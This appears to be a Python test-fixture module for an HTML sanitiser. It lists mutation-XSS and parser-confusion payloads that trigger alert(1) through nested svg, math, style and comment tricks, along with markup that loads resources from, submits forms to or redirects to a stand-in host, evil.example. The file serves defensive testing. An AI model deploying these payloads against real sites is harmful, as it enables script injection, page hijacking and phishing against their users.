"""Shapes of foreign markup that other sanitisers have let through, or that reach out of their box."""

# ruff: noqa: E501 -- a shape reads best on one line

from __future__ import annotations

MUTATIONS = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title='</textarea><img src='#' onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a href='</title><img src=x onerror=alert(1)>'></a></title>",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp><plaintext><script>alert(1)</script>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe><noembed><a title='</noembed><svg onload=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select><select><svg onload=alert(1)>",
    "<table><caption><svg><desc><table><svg onload=alert(1)></table></desc></svg></caption></table>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>--><!--<!-- --><script>alert(1)</script>-->",
    "<a href='x' title='&quot;><img src=x onerror=alert(1)>'>x</a><img alt='`><img src=x onerror=alert(1)>' src='/a.jpg'>",
    "<p title=x onmouseover=alert(1)//='y'>x</p><img src='/a.jpg'alt=x'onerror=alert(1)>",
    "<scr<script></script>ipt>alert(1)</scr<script></script>ipt><<script>alert(1)//<</script>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href='java&Tab;script:alert(1)'>x</a><a href='\x01javascript:alert(1)'>x</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
)
"""Markup that is one thing when it is read, and another when it is read again."""

REACHING = (
    "<style>body{display:none}*{position:fixed}@import 'https://evil.example/a.css'</style>",
    "<p style='position:fixed;inset:0;z-index:99;background:url(https://evil.example/a)'>over all</p>",
    "<div class='skip masthead' id='_story' style='margin:-9999px'>x</div><table background='https://evil.example/b'><td>x</table>",
    "<link rel=stylesheet href='https://evil.example/c.css'><link rel=prefetch href='https://evil.example/d'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/e'><base href='https://evil.example/'>",
    "<form action='https://evil.example/f'><input name=a autofocus onfocus=alert(1)><button formaction='https://evil.example/g'>x",
    "<iframe src='https://evil.example/h'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='https://evil.example/i'><embed src='https://evil.example/j'></object><applet code=x>",
    "<video src='https://evil.example/k' poster='https://evil.example/l' autoplay></video><audio src='https://evil.example/m' autoplay>",
    "<img srcset='https://evil.example/n 1x' src='https://evil.example/o'><picture><source srcset='https://evil.example/p'></picture>",
    "<input type=image src='https://evil.example/q'><body background='https://evil.example/r'><frameset><frame src='https://evil.example/s'>",
    "<amp-img src='https://evil.example/t' width=1 height=1></amp-img><amp-list src='https://evil.example/u'></amp-list>",
    "<dialog open>over all</dialog><p popover id=p>x</p><marquee>x</marquee><b hidden>x</b><details ontoggle=alert(1) open>x",
    "<img src='https://media.example.evil.example/v'><img src='//evil.example/w'><img src='https://media.example@evil.example/x'>",
)
"""Markup that asks others, covers the page, or leads away from it."""
